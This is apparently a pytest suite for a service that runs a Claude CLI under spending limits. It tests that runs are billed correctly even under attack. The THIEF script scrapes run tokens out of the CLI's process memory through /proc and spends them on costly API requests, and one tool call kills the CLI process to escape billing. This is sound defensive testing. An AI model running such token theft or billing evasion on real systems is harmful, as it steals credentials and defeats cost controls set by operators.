"""Runs that spend what nobody sees: each attack also runs against an invoker without the defence, where it succeeds."""

from __future__ import annotations

import json
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from tests.invoker.conftest import (
    Invoker,
    StandInProcess,
    as_root,
    bash,
    defended_and_without,
    program,
    tool,
    without_boundary,
)

# US dollars for a token of claude-opus-5-5, from Anthropic's price list.
INPUT, OUTPUT = Decimal("0.000004"), Decimal("0.000020")
OPUS = "claude-opus-5-5"
pytestmark = pytest.mark.xdist_group("unbounded")


@pytest.fixture(scope="session")
def start_invoker(start_invoker: Callable[..., Invoker]) -> Callable[..., Invoker]:
    return without_boundary(start_invoker)


@pytest.fixture(scope="session")
def invoker(start_invoker: Callable[..., Invoker], unbounded: list[Invoker]) -> Invoker:
    if not unbounded:
        unbounded.append(start_invoker(pool_size=0))
    return unbounded[0]


def cost(answer: Any) -> float:
    return float(answer.headers["X-Claude-Cost-USD"])


@pytest.mark.parametrize("without", defended_and_without("the_cli_is_believed"))
def test_a_run_that_kills_its_cli_is_billed(attacked: Callable[..., Invoker], without: tuple[str, ...]) -> None:
    """The CLI says what a run has cost in its last message: a tool that kills it first has that said by nobody."""
    invoker = attacked(without)
    turns = "".join(tool("Bash", command=f"echo {number}") for number in range(3))
    with invoker.client() as api:
        body = {"prompt": turns + tool("Bash", command="kill -9 $CLAUDE_PID $PPID"), "tools": ["Bash"], "model": OPUS}
        answer = api.post("/invoke", json=body)
    assert answer.status_code == 502
    # Four turns, each of 12 tokens in and 1 out.
    assert cost(answer) == (0.0 if without else pytest.approx(float(4 * (12 * INPUT + OUTPUT)), abs=1e-6))


THIEF = """
import http.client, json, os, re, socket, sys
pid, tokens = int(os.environ["CLAUDE_PID"]), set()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory, \\
        open(f"/proc/{pid}/pagemap", "rb", 0) as pages:
    for line in maps:
        where, rights = line.split()[:2]
        start, end = (int(part, 16) for part in where.split("-"))
        for at in range(start, end if "rw" in rights else start, 1 << 20):
            size = min(1 << 20, end - at)
            pages.seek(at // 4096 * 8)
            if not any(pages.read(size // 4096 * 8)[7::8]): continue
            memory.seek(at)
            try: found = memory.read(size)
            except OSError: continue
            tokens |= set(re.findall(rb"run-[A-Za-z0-9_-]{43}", found))
            tokens |= {t.replace(b"\\0", b"") for t in re.findall(rb"r\\0u\\0n\\0-\\0(?:[A-Za-z0-9_-]\\0){43}", found)}
answers = []
for token in tokens:
    for _ in range(int(sys.argv[1])):
        prompt = "stolen budget [" + "[" + sys.argv[2] + "]]"
        body = {"model": "claude-opus-5-5", "max_tokens": 64000, "messages": [{"role": "user", "content": prompt}]}
        body |= json.loads(sys.argv[3])
        api = http.client.HTTPConnection("api")
        api.sock = socket.socket(socket.AF_UNIX)
        api.sock.settimeout(60)
        api.sock.connect(os.environ["ANTHROPIC_UNIX_SOCKET"])
        head = {"x-api-key": token.decode(), "content-type": "application/json"}
        api.request("POST", "/v1/messages", json.dumps(body).encode(), head)
        answer = api.getresponse()
        said = answer.read()
        used = str(json.loads(said)["usage"]["output_tokens"]) if answer.status == 200 else ""
        answers.append(str(answer.status) + used)
open("answers.json", "w").write(json.dumps(answers))
"""


def steal(api: Any, count: int, prompt: str, more: dict[str, Any], budget: float) -> tuple[list[str], Any]:
    command = program(THIEF, str(count), f"'{prompt}'", f"'{json.dumps(more)}'")
    answer = bash(api, command, model=OPUS, max_budget_usd=budget)
    assert answer.status_code == 200, answer.text
    # Not of its result: the CLI may have nothing left to say it with.
    return api.get(f"/runs/{answer.json()['id']}/artifacts/answers.json").json(), answer


@as_root
@pytest.mark.parametrize("without", defended_and_without("budgets_without_a_wall", "the_cli_is_believed"))
def test_a_stolen_token_spends_no_more_than_the_run_may(
    attacked: Callable[..., Invoker], without: tuple[str, ...]
) -> None:
    """A tool reads the run's token from the CLI's memory, and asks for expensive answers by itself."""
    invoker = attacked(without)
    with invoker.client() as api:
        answers, answer = steal(api, 12, "large 4000", {}, 0.05)
    charged = sum(float(OUTPUT) * int(each[3:]) for each in answers if each.startswith("200"))
    if without:
        assert len(answers) == 12 and charged > 0.2, "the stand-in has answered them all"
        assert cost(answer) < 0.01, "and nobody is billed for it"
        return
    assert "403" in answers
    assert charged <= cost(answer) <= 0.05
    assert answer.json()["stop_reason"] in ("end_turn", "max_budget")


@as_root
@pytest.mark.parametrize(
    "more",
    [
        {"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]},
        {"tools": [{"type": "advisor_20260301", "name": "advisor", "model": "claude-fable-5"}]},
        {"speed": "fast"},
        {"inference_geo": "us"},
        {"model": "claude-fable-5-fast"},
    ],
)
def test_a_stolen_token_asks_for_nothing_that_has_another_price(
    api: Any, invoker: Invoker, more: dict[str, Any]
) -> None:
    answers, answer = steal(api, 1, "hello", more, 0.1)
    assert answers == ["403"]
    assert cost(answer) < 0.01


def test_what_each_kind_of_token_costs(api: Any) -> None:
    """By the price list's literals; the CLI would say so too, were it asked."""
    usage = {
        "input_tokens": 1_000,
        "output_tokens": 500,
        "cache_read_input_tokens": 20_000,
        "cache_creation_input_tokens": 3_000,
        "cache_creation": {"ephemeral_5m_input_tokens": 2_000, "ephemeral_1h_input_tokens": 1_000},
    }
    prompt = f"[[usage {json.dumps(usage)}]] [[say x]]"
    answer = api.post("/invoke", json={"prompt": prompt, "model": OPUS}).json()
    expected = 1_000 * 4 + 500 * 20 + 20_000 * Decimal("0.2") + 2_000 * 5 + 1_000 * 8
    assert answer["cost_usd"] == float(expected / 1_000_000)
    assert answer["usage"] == {
        "input_tokens": 1_000,
        "output_tokens": 500,
        "cache_creation_input_tokens": 3_000,
        "cache_read_input_tokens": 20_000,
    }


def test_a_run_that_its_budget_ends_says_what_it_has_used(api: Any) -> None:
    turns = "".join(tool("Read", file_path=f"{number}") for number in range(9))
    usage = json.dumps({"input_tokens": 1_000, "output_tokens": 1_000})
    body = {"prompt": f"{turns} [[usage {usage}]]", "tools": ["Read"], "model": OPUS, "max_budget_usd": 0.1}
    answer = api.post("/invoke", json=body)
    assert answer.status_code == 200, answer.text
    assert answer.json()["stop_reason"] == "max_budget"
    used = answer.json()["usage"]
    assert used["output_tokens"] > 1_000 and used["input_tokens"] % 1_000 == 0
    assert cost(answer) == pytest.approx(float(used["input_tokens"] * INPUT + used["output_tokens"] * OUTPUT))
    assert 0.05 < cost(answer) <= 0.1


def test_a_stream_that_breaks_off_is_billed(api: Any, stand_in: StandInProcess) -> None:
    answer = api.post("/invoke", json={"prompt": "[[reset 3]] [[say one two three four five]]", "model": OPUS})
    assert answer.status_code == 504, answer.text
    asked = len([line for line in stand_in.lines() if "one two three four five" in str(line["messages"])])
    least = asked * (12 * INPUT + 3 * OUTPUT)
    assert float(least) <= cost(answer) <= float(asked * (12 * INPUT + 10 * OUTPUT))


def test_a_budget_that_suffices_for_no_request_says_so(api: Any) -> None:
    answer = api.post("/invoke", json={"prompt": "x", "model": OPUS, "max_budget_usd": 0.00001})
    assert (answer.status_code, answer.json().get("stop_reason"), cost(answer)) == (200, "max_budget", 0.0)
